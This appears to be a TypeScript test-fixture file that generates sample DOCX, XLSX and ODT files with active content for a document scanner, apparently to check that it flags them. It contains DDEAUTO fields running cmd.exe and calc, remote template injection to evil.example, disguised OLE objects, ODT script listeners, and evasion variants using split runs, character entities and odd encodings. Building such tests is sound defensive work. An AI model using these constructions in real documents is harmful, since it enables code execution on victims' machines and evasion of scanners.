import { hostileFile as file } from './hostile-file.ts';
import { type Packed, zipOf } from './sample-files.ts';

const types: Packed = { name: '[Content_Types].xml', content: '<Types/>' };
const text: Packed = { name: 'word/document.xml', content: '<w:document/>' };
const sheet: Packed = { name: 'xl/workbook.xml', content: '<workbook/>' };

const docx = (...more: readonly Packed[]) => zipOf([types, text, ...more]);
const xlsx = (...more: readonly Packed[]) => zipOf([types, sheet, ...more]);
const external =
  '<Relationships><Relationship Type="x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>';

const field = (words: string) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${words}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;
const run = (words: string) => `<w:r><w:instrText xml:space="preserve">${words}</w:instrText></w:r>`;
const paragraph = (inner: string) => `<w:document><w:body><w:p>${inner}</w:p></w:body></w:document>`;
const withText = (inner: string | Buffer, name = 'word/document.xml') =>
  zipOf([types, ...(name === text.name ? [] : [text]), { name, content: inner }]);
const odt = (inner: string | Buffer, ...more: readonly Packed[]) =>
  zipOf([
    { name: 'mimetype', content: 'application/vnd.oasis.opendocument.text', stored: true },
    { name: 'content.xml', content: inner },
    ...more,
  ]);
const odtWith = (inner: string) =>
  odt(`<office:document-content>${inner}<office:body/></office:document-content>`);
const start = ' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc.exe" ';
const listener =
  '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:../lib/pydoc.py$tempfilepager?language=Python"/>';

/** Texts and spreadsheets that start programs, run scripts or load something from elsewhere. */
export const activeOfficeFiles = [
  file(
    'a spreadsheet whose links start a program',
    'a.xlsx',
    xlsx({
      name: 'xl/externalLinks/externalLink1.xml',
      content: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc.exe"/></externalLink>',
    }),
  ),
  file(
    'the same in a part of another name, with a prefix',
    'a.xlsx',
    xlsx({ name: 'xl/a.bin', content: '<x:externalLink xmlns:x="s"><x:ddeLink/></x:externalLink>' }),
  ),
  file(
    'a spreadsheet that loads an object of another program',
    'a.xlsx',
    xlsx({
      name: 'xl/externalLinks/externalLink1.xml',
      content: '<externalLink><oleLink r:id="rId1" progId="Word.Document"/></externalLink>',
    }),
  ),
  file('a text whose field starts a program', 'a.docx', withText(paragraph(field(run(start))))),
  file(
    'the same as a short field',
    'a.docx',
    withText(paragraph(`<w:fldSimple w:instr="${start}"/>`.replaceAll('"/k calc.exe"', 'x'))),
  ),
  file(
    'the same with its word over several runs',
    'a.docx',
    withText(
      paragraph(
        field(run(' D') + run('D') + '<w:r><w:rPr/><w:instrText>E &quot;cmd&quot;</w:instrText></w:r>'),
      ),
    ),
  ),
  file(
    'the same with runs between that are left aside',
    'a.docx',
    withText(
      paragraph(
        field(run('D') + '<mc:Choice Requires="none">' + run('x') + '</mc:Choice>' + run('DE "cmd"')),
      ),
    ),
  ),
  file(
    'the same with letters written as numbers',
    'a.docx',
    withText(paragraph(field(run('&#68;&#x44;EAUTO cmd')))),
  ),
  file(
    'the same behind an end of the field that is none',
    'a.docx',
    withText(
      paragraph(
        field(run('D') + '<w:t><![CDATA[<w:fldChar w:fldCharType="end"/>]]></w:t>' + run('DE "cmd"')),
      ),
    ),
  ),
  file(
    'the same in UTF-16',
    'a.docx',
    withText(Buffer.from(`\ufeff${paragraph(field(run(start)))}`, 'utf16le')),
  ),
  file(
    'the same in an encoding of another time',
    'a.docx',
    withText(`<?xml version="1.0" encoding="utf-7"?>${paragraph('')}`),
  ),
  ...['header1', 'footer2', 'footnotes', 'endnotes', 'comments', 'glossary/document'].map((part) =>
    file(
      `the same in the part ${part}`,
      'a.docx',
      withText(`<w:x>${field(run(start))}</w:x>`, `word/${part}.xml`),
    ),
  ),
  file(
    'the same far behind other text',
    'a.docx',
    withText(
      paragraph(Array.from({ length: 20_000 }, (_, at) => `<w:t>${at}</w:t>`).join('') + field(run(start))),
    ),
  ),
  file(
    'a text that shows part of another file',
    'a.docx',
    withText(paragraph(field(run(' LINK Excel.Sheet.12 "x"')))),
  ),
  file(
    'a text with a linked object',
    'a.docx',
    withText(paragraph('<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" r:id="rId5"/>')),
  ),
  file(
    'a document that loads a template by letters written as numbers',
    'a.docx',
    docx({
      name: 'word/_rels/settings.xml.rels',
      content: external.replace('attached', 'attach&#101;d').replace('External', 'Ext&#x65;rnal'),
    }),
  ),
  file(
    'a document whose object is called a picture',
    'a.docx',
    docx({ name: 'word/media/image1.png', content: Buffer.from('d0cf11e0a1b11ae100', 'hex') }),
  ),
  file('a document with a text of old in it', 'a.docx', docx({ name: 'word/a.dat', content: '{\\rtf1}' })),
  file(
    'a control that is called otherwise',
    'a.docx',
    docx({ name: 'word/a1.xml', content: '<ax:ocx ax:classid="{x}"/>' }),
  ),
  file(
    'an ODT that runs a script when it is opened',
    'a.odt',
    odtWith(`<office:scripts><office:event-listeners>${listener}</office:event-listeners></office:scripts>`),
  ),
  file(
    'the same among its styles',
    'a.odt',
    odt('<office:document-content/>', {
      name: 'styles.xml',
      content: `<office:document-styles>${listener}</office:document-styles>`,
    }),
  ),
  file(
    'an ODT whose link runs a script',
    'a.odt',
    odtWith('<text:a xlink:href="vnd.sun.star&#46;script:a.py$b?language=Python">x</text:a>'),
  ),
  file(
    'an ODT with a macro among its text',
    'a.odt',
    odtWith(
      '<office:scripts><ooo:module><ooo:source-code>Sub Main</ooo:source-code></ooo:module></office:scripts>',
    ),
  ),
  file(
    'an ODT that asks a program for data',
    'a.odt',
    odtWith('<text:dde-connection-decl office:dde-application="cmd" office:dde-topic="/c calc"/>'),
  ),
  file(
    'an ODT with an object from elsewhere',
    'a.odt',
    odtWith('<draw:object xlink:href="file://evil.example/a.ods"/>'),
  ),
  file(
    'an ODT with a page from elsewhere',
    'a.odt',
    odtWith('<draw:floating-frame xlink:href="https://evil.example/"/>'),
  ),
  file(
    'an ODT with a section from elsewhere',
    'a.odt',
    odtWith('<text:section-source xlink:href="../../a.odt"/>'),
  ),
  file(
    'an ODT with an object of another program',
    'a.odt',
    odtWith('<draw:object-ole xlink:href="./Object 1"/>'),
  ),
];
